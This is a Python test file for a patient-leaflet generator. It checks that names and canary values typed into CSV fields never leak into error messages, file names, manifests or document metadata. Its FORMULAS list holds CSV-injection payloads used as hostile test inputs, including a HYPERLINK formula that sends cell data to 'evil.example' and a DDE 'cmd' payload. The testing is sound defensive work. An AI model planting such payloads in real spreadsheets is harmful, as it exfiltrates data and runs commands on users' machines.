"""Family 4: no patient data outside a document's body. A name typed in the wrong
column, a header-less CSV, a formula or a name in the id column: messages describe the
value (its kind, its length) and never repeat it; only checked ids reach the manifest,
file names and state files; metadata stays generic."""

from __future__ import annotations

import json
import zipfile

import pikepdf
from hypothesis import given, settings
from hypothesis import strategies as st

from handouts.errors import InputError
from handouts.records.validate import ALL_FIELDS, RawRecord, validate_record
from tests.conftest import pdf_text
from tests.integrity_kit import CANARY, HEADER, batch, files_under, oral, pump, status, write_csv

FORMULAS = ['=HYPERLINK("http://evil.example/"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3", f"={CANARY}"]


def outside_the_body(out) -> str:
    """Everything a batch leaves besides the documents' text: file names, the manifest,
    state files, PDF and DOCX metadata."""
    parts = [str(path.relative_to(out)) for path in files_under(out)]
    for path in files_under(out):
        if path.suffix in (".json",):
            parts.append(path.read_text(encoding="utf-8"))
        elif path.suffix == ".pdf":
            with pikepdf.open(path) as pdf:
                parts.append(repr(dict(pdf.docinfo)))
                parts.append(str(pdf.open_metadata()))
        elif path.suffix == ".docx":
            with zipfile.ZipFile(path) as archive:
                parts += [archive.read(name).decode() for name in archive.namelist()
                          if name.startswith("docProps/") and name.endswith(".xml")]
    return "\n".join(parts)


def test_a_batch_leaks_no_name_and_no_formula(capsys, tmp_path):
    rows = [oral("L1"), pump("L2", refill=f"{CANARY} Dupont"), oral("L3", dose=CANARY),
            oral(f"{CANARY} Dupont"), *[oral(formula) for formula in FORMULAS]]
    table = write_csv(tmp_path / "leak.csv", rows)
    out = tmp_path / "out"
    code, stdout, stderr, manifest = batch(capsys, table, out, "--format", "pdf",
                                           "--format", "docx")
    assert code == 1
    assert status(manifest) == {2: ("L1", "ok"), 3: ("L2", "error"), 4: ("L3", "error"),
                                **{row: ("", "error") for row in range(5, 11)}}
    assert f"{table}: row 3, column next_refill: a text of 17 characters is not a date (write " \
           "2027-01-15 or 15/01/2027) (a date such as 2027-01-15)" in stderr
    assert (f"{table}: row 5, column id: must be 1-64 letters, digits, '-' or '_' (it names the "
            "files)") in stderr
    assert len(stderr) == 9  # one line per refused row, and the summary
    leaked = "\n".join([*stdout, *stderr, outside_the_body(out)])
    assert CANARY not in leaked
    for formula in FORMULAS:
        assert formula not in leaked and formula.replace('"', '\\"') not in leaked
    assert CANARY in pdf_text(out / "L1" / "L1-baclofen-oral-leaflet-fr.pdf")  # the body


def test_a_csv_without_header_does_not_show_its_first_row(capsys, tmp_path):
    table = tmp_path / "noheader.csv"
    table.write_text(";".join(oral("H1", name=f"{CANARY} Dupont")) + "\n"
                     + ";".join(oral("H2")) + "\n", encoding="utf-8")
    code, stdout, stderr, manifest = batch(capsys, table, tmp_path / "out")
    assert (code, stdout, manifest) == (2, [], None)
    assert stderr == [(f"{table}: row 1: is not a header row: none of its cells names a known "
                      "column (the values are not shown) (the first row names the columns: id, "
                      "variant, ...)")]
    assert not (tmp_path / "out").exists()


def test_unknown_columns_of_a_real_header_are_named(capsys, tmp_path):
    """Extra columns of a real header row (one with an id column) are named in the one
    warning that says they are ignored (issue 15: hospital exports carry them)."""
    table = write_csv(tmp_path / "h.csv", [[*oral("U1"), "x"]], header=[*HEADER, "chambre"])
    code, _, stderr, _ = batch(capsys, table, tmp_path / "out")
    assert code == 0
    assert stderr[0] == f"{table}: row 1: warning: 1 column ignored: 'chambre' (column 12)"


NAMES = st.from_regex(r"[A-Z][a-zà-ÿ]{4,12}( [A-Z][a-zà-ÿ]{2,12})?", fullmatch=True)
SCALAR_FIELDS = [f for f in ALL_FIELDS if f not in ("name", "prescriber", "pump_model",
                                                    "implanting_centre", "ward")]


@given(name=NAMES, field=st.sampled_from(SCALAR_FIELDS),
       variant=st.sampled_from(["oral", "intrathecal"]))
@settings(max_examples=200, deadline=None)
def test_a_name_in_any_field_is_never_repeated(name, field, variant):
    raw = RawRecord({"variant": variant, "id": "N1", field: name}, lambda f: f"t.csv: {f}")
    try:
        validate_record(raw, ["fr", "en"])
    except InputError as error:
        assert name not in json.dumps([str(p) for p in error.problems], ensure_ascii=False)


@given(key=NAMES)
@settings(max_examples=50, deadline=None)
def test_a_name_as_a_yaml_key_is_never_repeated(key):
    raw = RawRecord({"variant": "oral", "daily_dose_mg": "30", key: "x"}, lambda f: "r.yaml")
    try:
        validate_record(raw, ["fr"])
    except InputError as error:
        assert key not in " ".join(str(p) for p in error.problems)
